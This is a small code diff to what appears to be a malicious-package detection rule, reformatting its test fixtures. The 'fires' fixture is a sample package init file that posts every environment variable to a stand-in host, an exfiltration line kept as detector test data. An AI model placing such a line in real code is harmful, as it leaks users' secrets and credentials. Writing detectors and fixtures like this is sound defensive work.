@@ -40,10 +40,14 @@ RULE = Rule(
     grade=HOLD,
     find=_find,
     fires={
-        "acme/__init__.py": "import os, requests\nrequests.post('https://example.test', json=dict(os.environ))\n"
+        "acme/__init__.py": (
+            "import os, requests\nrequests.post('https://example.test', json=dict(os.environ))\n"
+        )
     },
     quiet={
-        "acme/__init__.py": "import os, subprocess\n\ndef run(args):\n    return subprocess.run(args, env=dict(os.environ))\n"
+        "acme/__init__.py": (
+            "import os, subprocess\n\ndef run(args):\n    return subprocess.run(args, env=dict(os.environ))\n"
+        )
     },
     rates="42 of 2,004 malicious clusters, none of 200 popular archives",
 )
